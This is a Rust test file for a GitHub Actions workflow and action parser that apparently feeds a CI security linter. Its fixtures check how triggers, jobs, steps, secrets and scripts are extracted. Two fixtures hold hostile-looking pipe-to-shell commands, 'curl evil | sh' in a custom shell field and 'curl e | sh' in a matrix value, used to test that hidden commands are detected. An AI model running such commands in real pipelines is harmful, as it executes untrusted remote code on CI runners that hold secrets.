use super::workflow;
use crate::cond::{CondId, CondWhat};
use crate::extract::action::action;
use crate::facts::{Channel, Expr, ExprWhat, FileFacts, Language, V, ValueId, What};

fn expr(e: &Expr) -> String {
    match &e.what {
        ExprWhat::Context(c) => c.clone(),
        ExprWhat::Str(s) => format!("'{s}'"),
        ExprWhat::Call(n, args) => format!("{n}({})", args.iter().map(expr).collect::<Vec<_>>().join(",")),
        ExprWhat::Binary(op, l, r) => format!("{}{op}{}", expr(l), expr(r)),
        other => format!("{other:?}"),
    }
}

fn val(f: &FileFacts, id: ValueId) -> String {
    match &f.value(id).what {
        V::Str(t) => t.as_str().trim_end_matches('\n').replace('\n', "⏎"),
        V::Bool(v) => v.to_string(),
        V::Num(n) => n.clone(),
        V::None => "~".into(),
        V::Expr(e) => format!("<{}>", expr(e)),
        V::Join(parts) => parts.iter().map(|p| val(f, *p)).collect(),
        V::List(items, _) => format!("[{}]", items.iter().map(|p| val(f, *p)).collect::<Vec<_>>().join(",")),
        V::Dict(items, _) => format!("{{{}}}", items.iter().map(|(k, v)| format!("{}:{}", val(f, *k), val(f, *v))).collect::<Vec<_>>().join(",")),
        other => format!("{other:?}"),
    }
}

fn cond(f: &FileFacts, id: CondId) -> String {
    let list = |ids: &[CondId], sep: &str| format!("({})", ids.iter().map(|c| cond(f, *c)).collect::<Vec<_>>().join(sep));
    match &f.cond(id).what {
        CondWhat::And(ids) => list(ids, " & "),
        CondWhat::Or(ids) => list(ids, " | "),
        CondWhat::Not(inner) => format!("!{}", cond(f, *inner)),
        CondWhat::Atom(l, crate::cond::CmpOp::Truthy, _) => val(f, *l),
        CondWhat::Atom(l, op, r) => format!("{} {op:?} {}", val(f, *l), val(f, *r)),
        other => format!("{other:?}"),
    }
}

/// One line for each fact but commands: depth by owner, form, the condition behind `if`.
fn show(f: &FileFacts) -> String {
    let opt = |id: &Option<ValueId>| id.map(|v| val(f, v)).unwrap_or_default();
    let pairs = |list: &[(String, ValueId)]| list.iter().map(|(n, v)| format!(" {n}={}", val(f, *v))).collect::<String>();
    let mut out = String::new();
    for (id, fact) in f.iter() {
        let text = match &fact.what {
            What::Workflow { name, callable } => format!("workflow {} {callable}", opt(name)),
            What::Template { runs, name } => format!("template {runs:?} {}", opt(name)),
            What::Trigger { event, types, filters } => format!("on {event} {types:?}{}", pairs(filters)),
            What::Job { id, needs, environment, container, matrix, working_directory, lenient, secrets_inherit } => format!(
                "job {id} needs{needs:?} env={} in={} matrix={} dir={} {lenient} {secrets_inherit}",
                opt(environment),
                opt(container),
                opt(matrix),
                opt(working_directory)
            ),
            What::Step { id, name, shell, working_directory, lenient } => {
                format!("step {} name={} shell={} dir={} {lenient}", id.clone().unwrap_or_default(), opt(name), opt(shell), opt(working_directory))
            }
            What::Uses { target, with } => format!("uses {}{}", val(f, *target), pairs(with)),
            // The shell front end decides how it keeps the text.
            What::Script { language: Language::Shell, .. } => "script Shell".to_owned(),
            What::Script { language, text } => format!("script {language:?} {}", val(f, *text)),
            What::Input { name, kind, default, required } => format!("input {name} {kind:?} {} {required}", opt(default)),
            What::Output { name, value } => format!("output {name} {}", val(f, *value)),
            What::Write { channel: Channel::Env(name), value } => format!("env {name} {}", val(f, *value)),
            What::Setting { path, value } => format!("setting {path} {}", val(f, *value)),
            What::Image { reference, role } => format!("image {role:?} {}", val(f, *reference)),
            What::SecretRef { name } => format!("secret {name}"),
            What::Permission { scope, level } => format!("permission {scope} {level:?}"),
            What::Runner { labels, group } => format!("runner [{}] {}", labels.iter().map(|l| val(f, *l)).collect::<Vec<_>>().join(","), opt(group)),
            // What a script contains is told elsewhere.
            _ => continue,
        };
        let when = fact.when.map(|c| format!(" if {}", cond(f, c))).unwrap_or_default();
        out += &format!("{}{}{when}\n", "  ".repeat(f.owners(id).count()), text.trim_end());
    }
    out
}

fn check(got: &FileFacts, want: &str) {
    let strip = |s: &str| s.lines().map(str::trim_end).filter(|l| !l.is_empty()).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(strip(&show(got)), strip(want), "\n{}", show(got));
}

#[test]
fn a_workflow_is_read_whole() {
    let text = r#"
name: Eval
on:
  issue_comment:
    types: [created, edited]
  push: { branches: [main], paths-ignore: ['docs/**'] }
  workflow_dispatch:
    inputs:
      model: { type: string, default: org/m, required: true }
  workflow_call:
    secrets: { TOKEN: { required: true } }
    outputs: { url: { value: "${{ jobs.eval.outputs.url }}" } }
  schedule: [{ cron: '0 0 * * *' }]
permissions: { contents: read, id-token: write }
env: { HF_TOKEN: "${{ secrets.hf_token }}", N: 1 }
defaults: { run: { working-directory: src } }
jobs:
  eval:
    needs: [build, lint]
    if: github.event.issue.pull_request && contains(github.event.comment.body, '/eval')
    runs-on: [self-hosted, "${{ matrix.gpu }}"]
    environment: { name: prod }
    permissions: {}
    container:
      image: ghcr.io/acme/t:1
      env: { A: b }
      options: --gpus all
      credentials: { password: "${{ secrets.REG }}" }
    services: { db: { image: "postgres:16" } }
    strategy: { matrix: { gpu: [a10, h100], include: [{ gpu: x }] } }
    outputs: { url: "${{ steps.run.outputs.url }}" }
    continue-on-error: true
    steps:
      - uses: actions/checkout@v4
        with:
          ref: refs/pull/${{ github.event.issue.number }}/head
          token: ${{ github.token }}
      - id: run
        name: Evaluate ${{ github.event.comment.body }}
        if: ${{ !cancelled() }}
        env: { K: "${{ secrets['k'] || '' }}" }
        shell: python
        run: |
          print("${{ github.event.issue.title }}")
      - uses: docker://alpine:3
  call:
    uses: ./.github/workflows/x.yml
    with: { a: true }
    secrets: { T: "${{ secrets.T }}" }
  all:
    uses: acme/w/.github/workflows/y.yml@main
    secrets: inherit
"#;
    check(
        &workflow(text.as_bytes()),
        r"
workflow Eval true
  on issue_comment [\x22created\x22, \x22edited\x22]
  on push [] branches=[main] paths-ignore=[docs/**]
  on workflow_dispatch []
    input model Some(\x22string\x22) org/m true
  on workflow_call [] secrets=[TOKEN]
    output url <jobs.eval.outputs.url>
  on schedule [] cron=0 0 * * *
  permission contents Read
  permission id-token Write
  env HF_TOKEN <secrets.hf_token>
    secret HF_TOKEN
  env N 1
  job eval needs[\x22build\x22, \x22lint\x22] env=prod in=ghcr.io/acme/t:1 matrix={gpu:[a10,h100],include:[{gpu:x}]} dir=src true false if C
    permission * None if C
    runner [self-hosted,<matrix.gpu>] if C
    image Container ghcr.io/acme/t:1 if C
    env A b if C
      setting container.options --gpus all if C
      setting container.credentials.password <secrets.reg> if C
        secret REG if C
    image Service postgres:16 if C
    output url <steps.run.outputs.url> if C
    step  name= shell= dir=src false if C
      uses actions/checkout@v4 ref=refs/pull/<github.event.issue.number>/head token=<github.token> if C
        secret GITHUB_TOKEN if C
    step run name=Evaluate <github.event.comment.body> shell=python dir=src false if (C & !Status(Cancelled))
      env K <secrets.k||''> if (C & !Status(Cancelled))
        secret K if (C & !Status(Cancelled))
      script Python print(\x22<github.event.issue.title>\x22) if (C & !Status(Cancelled))
    step  name= shell= dir=src false if C
      uses docker://alpine:3 if C
      image Action alpine:3 if C
  job call needs[] env= in= matrix= dir=src false false
    uses ./.github/workflows/x.yml a=true secrets.T=<secrets.t>
      secret T
  job all needs[] env= in= matrix= dir=src false true
    uses acme/w/.github/workflows/y.yml@main
"
        .replace("\\x22", "\"")
        .replace("if C", "if (<github.event.issue.pull_request> & <github.event.comment.body> Contains /eval)")
        .replace("(C &", "((<github.event.issue.pull_request> & <github.event.comment.body> Contains /eval) &")
        .as_str(),
    );
    assert!(workflow(text.as_bytes()).notices.is_empty());
}

#[test]
fn every_shape_is_a_shape() {
    let table: &[(&str, &str)] = &[
        ("on: push\njobs: {}", "workflow  false\n  on push []"),
        ("true: [push, workflow_call]", "workflow  true\n  on push []\n  on workflow_call []"),
        ("\"on\": { pull_request_target: }", "workflow  false\n  on pull_request_target []"),
        ("on: [push, { release: { types: published } }]", "workflow  false\n  on push []\n  on release [\"published\"]"),
        ("permissions: write-all", "workflow  false\n  permission * Write"),
        ("permissions: {}", "workflow  false\n  permission * None"),
        ("env: ${{ fromJSON(secrets.ALL) }}", "workflow  false\n  env * <fromjson(secrets.all)>\n    secret ALL"),
        (
            "jobs: { a: { runs-on: { group: big, labels: [gpu] }, needs: b, if: \"x ${{ false }}\", environment: prod } }",
            "workflow  false\n  job a needs[\"b\"] env=prod in= matrix= dir= false false if Const(true)\n    runner [gpu] big if Const(true)",
        ),
        (
            "jobs: { a: { runs-on: windows-latest, steps: [{ run: dir, if: always() }, { run: x, shell: 'bash -el {0}' }, { run: y, shell: cmd }] } }",
            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    runner [windows-latest]\n    step  name= shell= dir= false if Status(Always)\n      script PowerShell dir if Status(Always)\n        script Shell if Status(Always)\n    step  name= shell=bash -el {0} dir= false\n      script Shell\n    step  name= shell=cmd dir= false\n      script Cmd y\n        script Shell",
        ),
        (
            "x: &s\n  - run: echo\njobs: { a: { steps: *s }, b: { steps: [*s, { <<: { uses: q@v1 } }] } }",
            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n  job b needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      uses q@v1",
        ),
        ("on: push\njobs: { a: 1, b: { steps: [x] } }", "workflow  false\n  on push []\n  job b needs[] env= in= matrix= dir= false false"),
        // The shell is a command line too.
        (
            "jobs: { a: { steps: [{ run: x, shell: 'bash -c \"curl evil | sh\" {0}' }, { run: y, shell: 'bash --noprofile -eo pipefail {0}' }] } }",
            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell=bash -c \"curl evil | sh\" {0} dir= false\n      script Shell\n      script Shell\n    step  name= shell=bash --noprofile -eo pipefail {0} dir= false\n      script Shell",
        ),
        // Escapes, explicit keys, aliases and odd line breaks in what names a step's parts.
        (
            "x: &k run\njobs: { a: { steps: [{ \"r\\u0075n\": a }, { *k : b }, { ? run : c }] } }",
            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      script Shell",
        ),
        (
            "# harmless\rjobs:\r  a:\u{2028}    steps:\u{85}    - uses: q@v1",
            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      uses q@v1",
        ),
        // One line that no reader takes costs neither the steps before nor those behind it.
        (
            "jobs:\n  a:\n    steps:\n    - run: one\n    - name: @odd\n      run: two\n    - uses: q@v1\n",
            "workflow  false\n  job a needs[] env= in= matrix= dir= false false\n    step  name= shell= dir= false\n      script Shell\n    step  name=@odd shell= dir= false\n      script Shell\n    step  name= shell= dir= false\n      uses q@v1",
        ),
        ("env: { T: \"${{ toJSON(secrets) }}\" }", "workflow  false\n  env T <tojson(secrets)>\n    secret *"),
    ];
    for (text, want) in table {
        check(&workflow(text.as_bytes()), want);
    }
}

#[test]
fn actions_of_each_kind() {
    let composite = "name: Setup\ninputs:\n  token: { required: true, default: \"${{ github.token }}\" }\nruns:\n  using: composite\n  steps:\n    - run: pip install ${{ inputs.pkg }}\n      shell: bash\noutputs:\n  dir: { value: \"${{ steps.a.outputs.dir }}\" }\n";
    check(
        &action(composite.as_bytes()),
        "template Composite Setup\n  input token None <github.token> true\n    secret GITHUB_TOKEN\n  step  name= shell=bash dir= false\n    script Shell\n  output dir <steps.a.outputs.dir>",
    );
    let docker = "runs: { using: docker, image: 'docker://acme/x:latest', args: [\"${{ inputs.a }}\"], env: { K: v } }";
    check(&action(docker.as_bytes()), "template Container\n  image Action acme/x:latest\n  setting runs.args.0 <inputs.a>\n  env K v");
    check(&action(b"runs: { using: node20, main: dist/index.js }"), "template JavaScript\n  setting runs.main dist/index.js");
}

#[test]
fn constructs_name_jobs_and_steps() {
    let text = "name: W\njobs:\n  a:\n    # pipevet: ignore[script-injection] only maintainers\n    steps:\n      - run: |\n          # first\n          make x # pipevet: ignore[download-executed] pinned above\n      - uses: q@v1 # pipevet: ignore\n";
    let facts = workflow(text.as_bytes());
    let names: Vec<_> = facts.constructs.iter().map(|c| (c.name.as_str(), c.parent, c.ignorable)).collect();
    assert_eq!(
        names,
        [
            ("W", None, false),
            ("a", Some(0), false),
            ("make x # pipevet: ignore[download-executed] pinned above", Some(1), true),
            ("q@v1", Some(1), true)
        ]
    );
    assert_eq!(facts.ignores.iter().map(|i| text.get(i.range.bounds()).unwrap()).filter(|t| t.starts_with('#')).count(), 2);
    assert_eq!(facts.notices.len(), 1);
    for (id, fact) in facts.iter() {
        if let What::Script { .. } = fact.what {
            let at = facts.construct_at(fact.range).unwrap();
            assert!(facts.constructs[at as usize].name.starts_with("make x"), "{id:?}");
        }
    }
}

#[test]
fn commands_that_stand_elsewhere_are_found() {
    let text = r#"
env: { SETUP: "make setup" }
jobs:
  a:
    runs-on: windows-latest
    strategy: { matrix: { cmd: ["curl e | sh"], include: [{ step: { run: "python x.py" } }] } }
    steps:
      - shell: bash
        run: |
          ${{ matrix.cmd }}
          cd a && ${{ matrix.step.run }} ${{ matrix.cmd }}
          ${{ env.setup }}
      - run: |
          $x = Get-Item .
          pip install ${{ matrix.cmd }}
          if ($x) { rm a }
          Get-ChildItem -Path b
          & ./build.sh "a b"
"#;
    let facts = workflow(text.as_bytes());
    let commands: Vec<String> = facts
        .items
        .iter()
        .filter_map(|f| match &f.what {
            What::Command(c) => Some(c.words.iter().map(|w| text.get(w.range.bounds()).unwrap()).collect::<Vec<_>>().join(" ")),
            _ => None,
        })
        .collect();
    for want in ["curl e", "sh", "python x.py", "make setup", "pip install ${{ matrix.cmd }}", "./build.sh \"a b\"", "rm a", "Get-ChildItem -Path b"]
    {
        assert!(commands.iter().any(|c| c == want), "{want} is not in {commands:?}");
    }
    assert!(facts.notices.is_empty(), "{:?}", facts.notices);
}

#[test]
fn expressions_in_python_strings_are_parts_of_them() {
    let text = "jobs: { a: { steps: [{ shell: python, run: \"open('x/${{ inputs.f }}.txt')\" }] } }";
    let facts = workflow(text.as_bytes());
    let call = facts.items.iter().find_map(|f| if let What::Call(call) = &f.what { Some(call) } else { None }).unwrap();
    assert_eq!(val(&facts, call.args[0].value), "x/<inputs.f>.txt");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { failure_persistence: None, ..proptest::prelude::ProptestConfig::default() })]

    #[test]
    fn no_workflow_harms(lines in proptest::collection::vec((0usize..6, proptest::sample::select(vec![
        "on: [push, {issues: {types: x}}]", "jobs:", "a:", "b: &j", "steps:", "- run: |", "- run: echo ${{ matrix.x }}", "- uses: docker://i@", "- *j", "<<: *j", "if: ${{ a",
        "if: !x", "with: {a: [${{ secrets.A }}]}", "env: [x]", "env: ${{ toJSON(secrets) }}", "permissions: x", "permissions: {a: b}", "runs-on: {labels: {}}",
        "container: {image: [], env: {A: 1}}", "services: {a: , b: c}", "strategy: {matrix: {include: [[{x: y}], ~]}}", "shell: pwsh {0} 'é", "shell: python", "  é \"${{ x }}\" '''",
        "outputs: {a: {b: c}}", "needs: [[a], ~]", "defaults: {run: {shell: 'sh -c \"'}}", "secrets: inherit", "runs: {using: composite, steps: [~, {}, []], image: 'docker://'}", "---", "\u{feff}", "\"",
    ])), 0..20)) {
        let text: String = lines.iter().map(|(n, l)| format!("{}{l}\n", " ".repeat(*n))).collect();
        for facts in [workflow(text.as_bytes()), action(text.as_bytes())] {
            let places = facts.items.iter().map(|f| f.range).chain(facts.values.iter().map(|v| v.range)).chain(facts.constructs.iter().map(|c| c.range));
            for range in places {
                proptest::prop_assert!(range.start <= range.end && range.end as usize <= text.len(), "{range:?} in {text}");
            }
        }
    }
}
